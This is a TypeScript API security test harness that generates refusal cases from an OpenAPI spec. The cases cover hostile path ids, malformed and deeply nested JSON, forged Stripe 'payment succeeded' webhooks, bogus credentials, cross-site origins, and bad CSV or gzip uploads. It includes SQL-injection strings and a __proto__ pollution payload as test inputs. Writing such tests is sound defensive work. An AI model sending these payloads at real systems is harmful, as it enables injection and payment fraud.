    const bodyOf = (n: number) => (profile.body ? JSON.stringify(base(n)) : undefined);
    const headersFor = (extra: Record<string, string> = {}, json = Boolean(profile.body)) => ({
      'X-Forwarded-For': nextAddress(),
      ...(json ? { 'Content-Type': 'application/json' } : {}),
      ...roleHeaders(profile.role),
      ...extra,
    });
    const add = (family: Family, name: string, req: RawRequest, expect: Expectation) =>
      out.push({ endpoint, family, name, req, expect });
    const refused = (statuses: number[], message?: RegExp): Expectation => ({ kind: 'refused', statuses, message });
    let n = 0;

    // Path parameters: not ids, ids of nothing, ids of what this caller may not touch.
    for (const [name, param] of Object.entries(profile.params ?? {})) {
      const reroutes = (label: string) => /traversal|NUL and/.test(label);
      const variants: [Labelled<string>, number[]][] = [
        // A whole number is a tile coordinate, not a hostile one.
        ...hostileIds()
          .filter((h) => !(param.kind === 'tile' && /^\d+$/.test(h.value)))
          .map((h): [Labelled<string>, number[]] => [
            h,
            param.kind === 'token' ? [400, 403, 404] : reroutes(h.label) ? [400, 404] : [400],
          ]),
        // A tile coordinate that is no number is no tile of any zoom: refused, not looked for.
        ...UUIDS_OF_NOTHING.map((u): [Labelled<string>, number[]] => [u, param.kind === 'tile' ? [400] : [404]]),
        ...(param.extra ?? []).map((e): [Labelled<string>, number[]] => [e, [403, 404, 410]]),
      ];
      for (const [{ label, value }, statuses] of variants) {
        const target = withParams({ [name]: value });
        const extra = profile.queryValues ? `?${profile.queryValues.field}=2024-01` : '';
        const isUpload = Boolean(profile.queryValues);
        add(
          'path',
          `${name}: ${label}`,
          {
            method,
            target: target + extra,
            headers: headersFor(isUpload ? { 'Content-Type': 'application/gzip' } : {}),
            body: isUpload ? 'not gzip' : profile.body ? bodyOf(n++) : undefined,
          },
          refused(
            statuses,
            param.kind === 'uuid' && statuses.length === 1 && statuses[0] === 400
              ? /must be a UUID|Failed to decode/
              : undefined,
          ),
        );
      }
    }

    // Bodies generated from the OpenAPI schema of the route's body, checked against what each field accepts.
    if (profile.body && op.requestBody) {
      const schema = resolve(doc, op.requestBody.content?.['application/json']?.schema);
      for (const mutation of bodyMutations(schema, profile.body, doc)) {
        add(
          mutation.family,
          mutation.name,
          { method, target: realTarget, headers: headersFor(), body: mutation.text(base(n++)) },
          refused(profile.body.refusal),
        );
      }
      for (const { label, value } of oddValuesOf(schema, profile.body)) {
        oddValidText.push({ endpoint, field: label.field, label: label.text, value });
      }
    }

    // Bodies the JSON parser must refuse, sent to every route that takes JSON or changes something.
    if (method !== 'GET') {
      const json = bodyOf(n) ?? '{"a":1}';
      for (const raw of parserRefusals(json)) {
        add(
          raw.family,
          raw.name,
          { method, target: realTarget, headers: headersFor(raw.headers, false), body: raw.body },
          refused(raw.statuses),
        );
      }
    }
    // Bodies that parse, on routes that take JSON: whole bodies of the wrong type, deep nesting, other types.
    if (profile.body) {
      for (const { label, value } of [...WRONG_TYPES, ...EDGE_NUMBERS.slice(0, 3)]) {
        if (profile.body.allOptional && label === 'an empty object') continue;
        add(
          'whole body',
          `a body that is ${label}`,
          { method, target: realTarget, headers: headersFor(), body: JSON.stringify(value) },
          refused(profile.body.refusal),
        );
      }
      for (const [label, text] of [
        ['an object nested 1,000 deep', nestedObjectText(1_000)],
        ['an object nested 10,000 deep', nestedObjectText(10_000)],
        ['an array nested 1,000 deep', nestedArrayText(1_000)],
        ['an array nested 10,000 deep', nestedArrayText(10_000)],
        // Deep, yet small enough for the journey's 8 KB limit.
        ['an array nested 4,000 deep', nestedArrayText(4_000)],
      ]) {
        add(
          'nesting',
          `a body that is ${label}`,
          { method, target: realTarget, headers: headersFor(), body: text },
          refused(profile.body.refusal),
        );
        add(
          'nesting',
          `an extra field that is ${label}`,
          { method, target: realTarget, headers: headersFor(), body: toJson({ ...base(n++), x: new Raw(text) }) },
          refused(profile.body.refusal),
        );
      }
      for (const { label, value } of wrongContentTypes(bodyOf(n)!, formFieldsOf(bodyOf(n++)!))) {
        add(
          'content type',
          label,
          { method, target: realTarget, headers: headersFor(value.headers, false), body: value.body },
          refused([400, 415]),
        );
      }
      if (profile.body.textField) {
        for (const bytes of [
          [0xff, 0xfe],
          [0xc0, 0xaf],
          [0xed, 0xa0, 0x80],
          [0xe2, 0x82],
        ]) {
          const marker = '\u0001MARK\u0001';
          const text = toJson({ ...base(n++), [profile.body.textField]: `x${marker}y` });
          const [head, tail] = text.split(JSON.stringify(marker).slice(1, -1));
          add(
            'raw body',
            `invalid UTF-8 ${bytes.map((b) => b.toString(16)).join(' ')} inside ${profile.body.textField}`,
            {
              method,
              target: realTarget,
              headers: headersFor(),
              body: Buffer.concat([Buffer.from(head), Buffer.from(bytes), Buffer.from(tail)]),
            },
            refused(profile.body.refusal),
          );
        }
      }
    } else if (method !== 'GET' && !profile.acts) {
      // A route without a body that changes nothing: a body that parses is ignored.
      for (const { label, value } of EXTRA_FIELDS) {
        const baseline = { method, target: realTarget, headers: headersFor({}, false) };
        add(
          'extra field',
          `a body with ${label}`,
          { method, target: realTarget, headers: headersFor(), body: toJson({ [label]: value }) },
          { kind: 'ignored', baseline },
        );
      }
    }

    // Query strings: ignored where the route takes none, refused where it declares them.
    if (profile.queryProbe) {
      const probe = profile.queryProbe;
      const canonical = probe.req();
      const fields = probe.fields ?? (profile.queryValues ? [profile.queryValues.field] : ['status']);
      for (const field of fields) {
        for (const { label, value } of hostileQueries(field)) {
          const req = probe.req();
          const joined = `${req.target}${req.target.includes('?') ? '&' : '?'}${value}`;
          const expect: Expectation =
            probe.expect === 'ignored'
              ? { kind: 'ignored', baseline: canonical }
              : probe.expect === 'redirect'
                ? { kind: 'redirect' }
                : refused(probe.expect);
          add('query', `${field}: ${label}`, { ...req, target: joined }, expect);
        }
      }
      const req = probe.req();
      add(
        'query',
        'a 20,000-character query string (over the server’s header limit)',
        { ...req, target: `${req.target}${req.target.includes('?') ? '&' : '?'}q=${'q'.repeat(20_000)}` },
        { kind: 'refused', statuses: [414, 431], contract: false },
      );
    }
    if (profile.queryValues) {
      const { field, values, statuses } = profile.queryValues;
      for (const { label, value } of values) {
        add(
          'query',
          `${field}=${label}`,
          {
            method,
            target: `${realTarget}?${field}=${value}`,
            headers: headersFor({ 'Content-Type': 'application/gzip' }, false),
            body: 'not gzip',
          },
          refused(statuses),
        );
      }
    }

    // Credentials that are no one's, on routes that need them; the real request otherwise.
    if (profile.role !== 'anonymous') {
      const credentials =
        profile.role === 'admin'
          ? HOSTILE_ADMIN_CREDENTIALS
          : profile.role === 'token'
            ? [
                ...HOSTILE_TOKEN_CREDENTIALS,
                { label: 'a revoked API token', value: { Authorization: `Bearer ${revokedApiToken}` } },
              ]
            : [...HOSTILE_CUSTOMER_CREDENTIALS, { label: 'a live API token of the customer', value: tokenHeaders() }];
      // A data API route's other role is the token owner's own session: it opens nothing there either.
      const otherRole = profile.role === 'admin' || profile.role === 'token' ? customerHeaders() : adminHeaders();
      for (const { label, value } of [...credentials, { label: 'the other role’s credentials', value: otherRole }]) {
        const isUpload = Boolean(profile.queryValues);
        add(
          'credentials',
          label,
          {
            method,
            target: isUpload ? `${realTarget}?release=2024-01` : realTarget,
            headers: {
              'X-Forwarded-For': nextAddress(),
              ...(profile.body ? { 'Content-Type': 'application/json' } : {}),
              ...(isUpload ? { 'Content-Type': 'application/gzip' } : {}),
              ...value,
            },
            body: isUpload ? 'not gzip' : bodyOf(n++),
          },
          refused([401], profile.role === 'token' ? /API token/ : /^Unauthorized$/),
        );
      }
    }

    // Cross-site writes: the real, valid request, sent by another site.
    if (method !== 'GET') {
      for (const [label, extra] of [
        ['an Origin of another site', { Origin: 'https://evil.example' }],
        ['an Origin of null', { Origin: 'null' }],
        ['Sec-Fetch-Site: cross-site', { 'Sec-Fetch-Site': 'cross-site' }],
      ] as [string, Record<string, string>][]) {
        add(
          'origin',
          label,
          { method, target: realTarget, headers: headersFor(extra), body: bodyOf(n++) },
          refused([403], /Cross-site requests are not allowed/),
        );
      }
    }

    out.push(...(profile.more?.() ?? []));
    return out;
  }

  function bodyMutations(
    schema: OpenApiSchema,
    profile: BodyProfile,
    doc: OpenApiDocument,
  ): { family: Family; name: string; text: (base: Record<string, unknown>) => string }[] {
    const out: { family: Family; name: string; text: (base: Record<string, unknown>) => string }[] = [];
    const properties = Object.entries(schema.properties ?? {});
    const required = new Set(schema.required ?? []);
    for (const [field, property] of properties) {
      const rule = profile.rules[field] ?? typeRule(resolve(doc, property));
      for (const [label, value] of valuesFor(rule)) {
        out.push({
          family: 'body field',
          name: `${field}: ${label}`,
          text: (base) => toJson({ ...base, [field]: value }),
        });
      }
      if (required.has(field)) {
        out.push({
          family: 'body field',
          name: `${field}: missing`,
          text: (base) => toJson(Object.fromEntries(Object.entries(base).filter(([k]) => k !== field))),
        });
      }
      out.push({
        family: 'nesting',
        name: `${field}: an object nested 10,000 deep`,
        text: (base) => toJson({ ...base, [field]: new Raw(nestedObjectText(10_000)) }),
      });
      // Arrays of objects: each element field gets the same treatment, and elements get extra fields.
      if (rule.element) {
        const element = rule.element;
        for (const [sub, subRule] of Object.entries(element.rules)) {
          for (const [label, value] of valuesFor(subRule)) {
            out.push({
              family: 'body field',
              name: `${field}[0].${sub}: ${label}`,
              text: (base) => toJson({ ...base, [field]: [{ ...element.base(), [sub]: value }] }),
            });
          }
          out.push({
            family: 'body field',
            name: `${field}[0].${sub}: missing`,
            text: (base) =>
              toJson({
                ...base,
                [field]: [Object.fromEntries(Object.entries(element.base()).filter(([k]) => k !== sub))],
              }),
          });
        }
        for (const { label, value } of EXTRA_FIELDS) {
          out.push({
            family: 'extra field',
            name: `${field}[0] with ${label}`,
            text: (base) => toJson({ ...base, [field]: [{ ...element.base(), [label]: value }] }),
          });
        }
      }
      // Objects: hostile keys and values inside.
      if (rule.storedText && field === 'metadata') {
        for (const { label, value } of [...HOSTILE_STRINGS, ...LONG_STRINGS]) {
          if (!rule.valid({ note: value })) {
            out.push({
              family: 'body field',
              name: `${field}.note: ${label}`,
              text: (base) => toJson({ ...base, [field]: { note: value } }),
            });
          }
          if (!rule.valid({ [value]: 1 })) {
            out.push({
              family: 'body field',
              name: `${field} key: ${label}`,
              text: (base) => toJson({ ...base, [field]: { [value]: 1 } }),
            });
          }
        }
      }
    }
    for (const { label, value } of EXTRA_FIELDS) {
      out.push({ family: 'extra field', name: `with ${label}`, text: (base) => toJson({ ...base, [label]: value }) });
    }
    out.push({
      family: 'extra field',
      name: 'with every extra field at once',
      text: (base) => toJson({ ...base, ...Object.fromEntries(EXTRA_FIELDS.map((e) => [e.label, e.value])) }),
    });
    return out;
  }

  /** The values of every kind that a field does not accept, as [label, value]. */
  function valuesFor(rule: FieldRule): [string, unknown][] {
    const candidates: [string, unknown][] = [
      ...WRONG_TYPES.map((w): [string, unknown] => [w.label, w.value]),
      ...HOSTILE_STRINGS.map((s): [string, unknown] => [s.label, s.value]),
      ...LONG_STRINGS.map((s): [string, unknown] => [s.label, s.value]),
      ...EDGE_NUMBERS.map((e): [string, unknown] => [e.label, e.value]),
      ...RAW_NUMBERS.map((r): [string, unknown] => [r.label, new Raw(r.value)]),
      ['an object with __proto__', new Raw('{"__proto__":{"isAdmin":true}}')],
    ];
    return candidates.filter(([, value]) => !rule.valid(value instanceof Raw ? JSON.parse(value.text) : value));
  }

  /** Hostile strings a free-text field accepts: they must be stored as they are (checked last). */
  function oddValuesOf(
    schema: OpenApiSchema,
    profile: BodyProfile,
  ): { label: { field: string; text: string }; value: string }[] {
    const out: { label: { field: string; text: string }; value: string }[] = [];
    for (const field of Object.keys(schema.properties ?? {})) {
      const rule = profile.rules[field];
      if (!rule?.storedText) continue;
      for (const { label, value } of HOSTILE_STRINGS) {
        const candidate = field === 'metadata' ? { note: value } : value;
        if (rule.valid(candidate)) out.push({ label: { field, text: label }, value });
      }
    }
    return out;
  }

  function typeRule(schema: OpenApiSchema): FieldRule {
    return {
      valid: (v) => {
        switch (schema.type) {
          case 'string':
            return typeof v === 'string';
          case 'number':
          case 'integer':
            return typeof v === 'number';
          case 'boolean':
            return typeof v === 'boolean';
          case 'array':
            return Array.isArray(v);
          default:
            return v !== null && typeof v === 'object' && !Array.isArray(v);
        }
      },
    };
  }

  /** Bodies that must not get past the body parser: not JSON, not UTF-8, too large, in an unknown charset or encoding. */
  function parserRefusals(
    json: string,
  ): { family: Family; name: string; headers: Record<string, string>; body: string | Buffer; statuses: number[] }[] {
    const asJson = { 'Content-Type': 'application/json' };
    return [
      ...MALFORMED_JSON.filter((m) => m.value.trim() !== '').map((m) => ({
        family: 'raw body' as const,
        name: `malformed JSON: ${m.label}`,
        headers: asJson,
        body: m.value,
        // A route with a smaller limit (journey events: 8 KB) may say so first.
        statuses: m.value.length > 8_192 ? [400, 413] : [400],
      })),
      ...INVALID_UTF8.filter((b) => !parses(b.value)).map((b) => ({
        family: 'raw body' as const,
        name: `invalid UTF-8: ${b.label}`,
        headers: asJson,
        body: b.value,
        statuses: [400],
      })),
      { family: 'raw body', name: 'a 2 MB body', headers: asJson, body: hugeJson(2 * 1024 * 1024), statuses: [413] },
      {
        family: 'raw body',
        name: 'a body just over 100 KB',
        headers: asJson,
        body: hugeJson(103_000),
        statuses: [413],
      },
      {
        family: 'content type',
        name: 'JSON in latin1',
        headers: { 'Content-Type': 'application/json; charset=latin1' },
        body: json,
        statuses: [415],
      },
      {
        family: 'content type',
        name: 'JSON in a made-up charset',
        headers: { 'Content-Type': 'application/json; charset=x-hostile' },
        body: json,
        statuses: [415],
      },
      {
        family: 'content type',
        name: 'JSON said to be gzip',
        headers: { ...asJson, 'Content-Encoding': 'gzip' },
        body: json,
        statuses: [400, 415],
      },
      {
        family: 'content type',
        name: 'JSON said to be deflate',
        headers: { ...asJson, 'Content-Encoding': 'deflate' },
        body: json,
        statuses: [400, 415],
      },
      {
        family: 'content type',
        name: 'JSON in a made-up encoding',
        headers: { ...asJson, 'Content-Encoding': 'x-hostile' },
        body: json,
        statuses: [415],
      },
    ];
  }

  function parses(bytes: Buffer): boolean {
    try {
      const text = bytes.toString('utf8');
      return /^[\s]*[{[]/.test(text) && (JSON.parse(text), true);
    } catch {
      return false;
    }
  }

  /** The same content as form fields, for the form and multipart encodings. */
  function formFieldsOf(json: string): Record<string, string> {
    let parsed: unknown;
    try {
      parsed = JSON.parse(json);
    } catch {
      parsed = {};
    }
    const entries = parsed && typeof parsed === 'object' && !Array.isArray(parsed) ? Object.entries(parsed) : [];
    return {
      ...Object.fromEntries(entries.map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v)])),
      isAdmin: 'true',
    };
  }

  // -------------------------------------------------------------------------------------------
  // Route-specific cases

  /** Stripe events without a valid signature: a forged "paid" for the unpaid order, and hostile bodies. */
  function webhookCases(): Case[] {
    const endpoint = 'POST /api/stripe/webhook';
    const target = '/api/stripe/webhook';
    const forged = JSON.stringify({
      id: 'evt_forged',
      object: 'event',
      type: 'payment_intent.succeeded',
      data: {
        object: { id: pending.pi, object: 'payment_intent', status: 'succeeded', amount: 120000, currency: 'usd' },
      },
    });
    const now = Math.floor(Date.now() / 1000);
    const sign = (secret: string, at: number, payload: string) =>
      `t=${at},v1=${createHmac('sha256', secret).update(`${at}.${payload}`).digest('hex')}`;
    const out: Case[] = [];
    const add = (
      family: Family,
      name: string,
      headers: Record<string, string>,
      body: string | Buffer,
      statuses = [400],
    ) =>
      out.push({
        endpoint,
        family,
        name,
        req: { method: 'POST', target, headers: { 'Content-Type': 'application/json', ...headers }, body },
        expect: { kind: 'refused', statuses },
      });
    for (const [label, signature] of [
      ['no signature', undefined],
      ['an empty signature', ''],
      ['a garbage signature', 'garbage'],
      ['a signature without a timestamp', 'v1=abc'],
      ['a made-up signature', `t=${now},v1=${'0'.repeat(64)}`],
      ['a signature with another secret', sign('whsec_guess', now, forged)],
      ['a signature of another body', sign(webhookSecret, now, '{"id":"evt_other"}')],
      ['a true signature an hour old', sign(webhookSecret, now - 3_600, forged)],
      [
        'only a v0 scheme signature',
        `t=${now},v0=${createHmac('sha256', webhookSecret).update(`${now}.${forged}`).digest('hex')}`,
      ],
      ['a 10,000-character signature', `t=${now},v1=${'a'.repeat(10_000)}`],
      ['a SQL signature', "t=1,v1=' OR 1=1 --"],
    ] as [string, string | undefined][]) {
      add(
        'signature',
        `forged payment_intent.succeeded, ${label}`,
        signature === undefined ? {} : { 'Stripe-Signature': signature },
        forged,
      );
    }
    const bogus = { 'Stripe-Signature': `t=${now},v1=${'0'.repeat(64)}` };
    for (const [label, body] of [
      ...WRONG_TYPES.map((w): [string, string] => [`a body that is ${w.label}`, JSON.stringify(w.value)]),
      ...HOSTILE_STRINGS.map((s): [string, string] => [
        `an event type of ${s.label}`,
        JSON.stringify({ id: 'evt_x', type: s.value, data: { object: {} } }),
      ]),
      ...EXTRA_FIELDS.map((e): [string, string] => [
        `an event with ${e.label}`,
        toJson({ id: 'evt_x', type: 'charge.refunded', [e.label]: e.value }),
      ]),
      ['an object nested 10,000 deep', nestedObjectText(10_000)],
      ['an array nested 10,000 deep', nestedArrayText(10_000)],
    ]) {
      add('body field', `${label} (unsigned)`, {}, body);
      add('body field', `${label} (badly signed)`, bogus, body);
    }
    for (const raw of parserRefusals(forged)) {
      out.push({
        endpoint,
        family: raw.family,
        name: raw.name,
        req: {
          method: 'POST',
          target,
          headers: { ...raw.headers, 'Stripe-Signature': sign(webhookSecret, now, forged) },
          body: raw.body,
        },
        expect: { kind: 'refused', statuses: raw.statuses },
      });
    }
    for (const { label, value } of wrongContentTypes(forged, formFieldsOf(forged))) {
      add('content type', `${label}, badly signed`, { ...value.headers, ...bogus }, value.body);
    }
    return out;
  }

  /** Batches that must be refused, leaving no batch and no file: too large, not CSV, not a batch. */
  function batchCases(endpoint: string, role: Role): Case[] {
    const target = endpoint.split(' ')[1];
    const csv = { 'Content-Type': 'text/csv' };
    const rows = (n: number) => ['id,address', ...Array.from({ length: n }, (_, i) => `${i},${i} Main St`)].join('\n');
    const cases: [string, Record<string, string>, string | Buffer, number[]][] = [
      // Refused by its Content-Length, before it is read.
      ['a 100 MB batch', csv, Buffer.alloc(100 * 1024 * 1024, 'id,address\n1,1 Main St\n'), [413]],
      ['100,001 rows', csv, rows(100_001), [400]],
      ['no content type', {}, rows(1), [415]],
      ['JSON', { 'Content-Type': 'application/json' }, '{"id":1,"address":"1 Main St"}', [415]],
      ['multipart', { 'Content-Type': 'multipart/form-data; boundary=x' }, '--x--', [415]],
      ['CSV in latin1', { 'Content-Type': 'text/csv; charset=latin1' }, rows(1), [415]],
      ['CSV said to be gzip', { ...csv, 'Content-Encoding': 'gzip' }, gzipSync(rows(1)), [415]],
      ['an empty body', csv, '', [400]],
      ['only a header', csv, 'id,address\n', [400]],
      ['no id column', csv, 'ref,address\n1,1 Main St\n', [400]],
      ['nothing to match by', csv, 'id,name\n1,Ada\n', [400]],
      ['lat without lon', csv, 'id,lat\n1,39\n', [400]],
      ['parcel without county', csv, 'id,parcel\n1,12-345\n', [400]],
      ['id twice', csv, 'id,ID,address\n1,2,1 Main St\n', [400]],
      ['a row with more fields than the header', csv, 'id,address\n1,1 Main St,extra\n', [400]],
      ['an unterminated quote', csv, 'id,address\n1,"1 Main St\n', [400]],
      ['NUL bytes', csv, Buffer.from('id,address\n1,\u0000\n'), [400]],
      [
        'invalid UTF-8',
        csv,
        Buffer.concat([Buffer.from('id,address\n1,'), Buffer.from([0xff, 0xfe]), Buffer.from('\n')]),
        [400],
      ],
      ['a binary file', csv, gzipSync(rows(100)), [400]],
      ['a header of 100 KB', csv, `id,address,${'x'.repeat(100_000)}\n1,2,3\n`, [400]],
      ['a SQL column name', csv, 'id,"address; DROP TABLE parcel_batches"\n1,x\n', [400]],
    ];
    return cases.map(([name, extra, body, statuses]) => ({
      endpoint,
      family: 'file' as const,
      name,
      req: {
        method: 'POST',
        target,
        headers: { 'X-Forwarded-For': nextAddress(), ...roleHeaders(role), ...extra },
        body,
      },
      expect: { kind: 'refused' as const, statuses },
    }));
  }

  /** County files that must be refused: not gzip, not CSV, not this county's, and other content types. */
  function uploadCases(): Case[] {
    const endpoint = 'POST /api/admin/counties/{id}/datasets';
    const county = counties[0];
    const target = `/api/admin/counties/${county.id}/datasets?release=2024-01`;
    const headers = (extra: Record<string, string>) => ({ ...adminHeaders(), ...extra });
    const out: Case[] = hostileGzipFiles(county.fips, counties[1].fips).map(({ label, value }) => ({
      endpoint,
      family: 'file' as const,
      name: label,
      req: { method: 'POST', target, headers: headers({ 'Content-Type': 'application/gzip' }), body: value },
      expect: { kind: 'refused' as const, statuses: [400] },
    }));
    for (const [label, extra, body, statuses] of [
      ['no content type', {}, 'parcel_id,county_fips', [415]],
      ['text/csv', { 'Content-Type': 'text/csv' }, `parcel_id,county_fips\n1,${county.fips}\n`, [415]],
      ['JSON', { 'Content-Type': 'application/json' }, '{"isAdmin":true}', [415]],
      ['multipart', { 'Content-Type': 'multipart/form-data; boundary=x' }, '--x--', [415]],
      [
        'gzip with Content-Encoding gzip',
        { 'Content-Type': 'application/gzip', 'Content-Encoding': 'gzip' },
        'x',
        [415],
      ],
      [
        'a 2 MB file that is not gzip',
        { 'Content-Type': 'application/gzip' },
        Buffer.alloc(2 * 1024 * 1024, 0x41),
        [400],
      ],
      ['a 2 MB JSON body', { 'Content-Type': 'application/json' }, hugeJson(2 * 1024 * 1024), [413]],
    ] as [string, Record<string, string>, string | Buffer, number[]][]) {
      out.push({
        endpoint,
        family: 'file',
        name: label,
        req: { method: 'POST', target, headers: headers(extra), body },
        expect: { kind: 'refused', statuses },
      });
    }
    return out;
  }
});

// ---------------------------------------------------------------------------------------------
// The OpenAPI document

interface OpenApiSchema {
  $ref?: string;
  type?: string;
  properties?: Record<string, OpenApiSchema>;
  required?: string[];
  items?: OpenApiSchema;
}

interface OpenApiOperation {
  parameters?: { name: string; in: string }[];
  requestBody?: { content?: Record<string, { schema?: OpenApiSchema }> };
  security?: Record<string, unknown>[];
  responses?: Record<string, { description?: string }>;
}

interface OpenApiDocument {
  paths: Record<string, Record<string, OpenApiOperation>>;
  components?: { schemas?: Record<string, OpenApiSchema> };
}

function readOperations(doc: OpenApiDocument): { method: string; path: string; op: OpenApiOperation }[] {
  return Object.entries(doc.paths).flatMap(([path, ops]) =>
    Object.entries(ops).map(([method, op]) => ({ method: method.toUpperCase(), path, op })),
  );
}

function resolve(doc: OpenApiDocument, schema: OpenApiSchema | undefined): OpenApiSchema {
  if (!schema) return {};
  if (!schema.$ref) return schema;
  return doc.components?.schemas?.[schema.$ref.split('/').pop()!] ?? {};
}

/** An answer without what differs from one request to the next: a fresh download link and its expiry. */
/** A staff sign-in event in the audit log: other cases sign in, and fail to, while these run. */
const isSignInEvent = (entry: unknown) =>
  typeof entry === 'object' && entry !== null && String((entry as { action?: unknown }).action).startsWith('session.');

function comparable(res: RawResponse): string {
  if (res.json === undefined) return res.text;
  const json = Array.isArray(res.json) ? res.json.filter((entry) => !isSignInEvent(entry)) : res.json;
  return JSON.stringify(json, (key, value: unknown) => (key === 'url' || key === 'expiresAt' ? '…' : value));
}

function keyOf(req: RawRequest): string {
  return JSON.stringify([
    req.method,
    req.target,
    req.headers?.Authorization,
    req.headers?.Cookie,
    req.body?.toString(),
  ]);
}
